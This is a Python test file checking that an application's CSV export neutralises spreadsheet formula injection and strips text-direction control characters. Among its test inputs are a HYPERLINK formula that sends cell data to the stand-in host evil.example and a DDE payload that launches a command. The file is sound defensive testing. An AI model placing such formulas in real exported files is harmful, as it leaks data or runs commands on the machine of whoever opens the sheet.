"""What somebody wrote as a name is never run by whoever opens the list."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.kernel.spreadsheet import csv_cell, csv_text, plain
from tests.conftest import ROOT

TURNING = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'


@pytest.mark.parametrize(
    "text", [LINK, "+1", "-2+3", "@SUM(A1)", " =1", "\rx", "\nx", "＝1", "'=1", "''@x", '"=1']
)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("separator", [",", ";", "\t", "\n"])
@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", " @x", '"=1+1', "'-1", "\t=1"])
def test_no_part_of_a_text_runs_where_a_spreadsheet_takes_another_separator(
    separator: str, formula: str
) -> None:
    text = f"Anna{separator}{formula}"
    cell = csv_cell(text)
    assert isinstance(cell, str) and cell.startswith(f"Anna{separator}'") and plain(cell) == text
    written = csv_text(["a"], [["x", text, 1]])
    for part in re.split(r'[,;\t\r\n]"*', written):
        assert not re.match(r"[\s'\"]*[=+\-@]", part) or part.startswith("'"), part


def test_each_text_stands_in_quotes_and_numbers_do_not() -> None:
    written = csv_text(["a", "b"], [["x", -5], [None, Decimal("-5.63")], [date(2026, 11, 23), "-5"]])
    assert written == '"a","b"\r\n"x",-5\r\n"",-5.63\r\n"2026-11-23","\'-5"\r\n'


@pytest.mark.parametrize(
    ("value", "cell"),
    [("Anna", "Anna"), ("'s Hertogenbosch", "'s Hertogenbosch"), ("a=b", "a=b"),
     ("Beck, Anna-Lena; x", "Beck, Anna-Lena; x"), (-5, -5), (Decimal("-5.63"), Decimal("-5.63")),
     (date(2026, 11, 23), "2026-11-23")],
)  # fmt: skip
def test_what_is_no_formula_stays_as_it_is_and_numbers_stay_numbers(value: object, cell: object) -> None:
    assert csv_cell(value) == cell  # pyright: ignore[reportArgumentType]


@given(st.text())
@example("'=x")
@example("''")
def test_what_was_made_inert_reads_as_what_it_was(text: str) -> None:
    cell = str(csv_cell(text))
    assert plain(cell) == text
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


@given(
    st.lists(
        st.text(st.characters(exclude_characters="\r\0" + TURNING, exclude_categories=["Cs"])),
        min_size=2,
        max_size=5,
    )
)
def test_a_table_reads_as_what_was_written(cells: list[str]) -> None:
    written = csv_text(["a", "b"], [cells])
    _head, row = csv.reader(io.StringIO(written, newline=""))
    assert [plain(cell) for cell in row] == cells


def test_a_letter_that_turns_the_text_does_not_reach_the_cells_beside() -> None:
    written = csv_text(["a"], [[f"x{letter}1" for letter in TURNING]])
    assert written == '"a"\r\n' + ",".join(['"x1"'] * len(TURNING)) + "\r\n"


def test_no_other_module_writes_csv() -> None:
    writers = {path.name for path in (ROOT / "app").rglob("*.py") if "csv.writer(" in path.read_text()}
    assert writers == {"spreadsheet.py"}
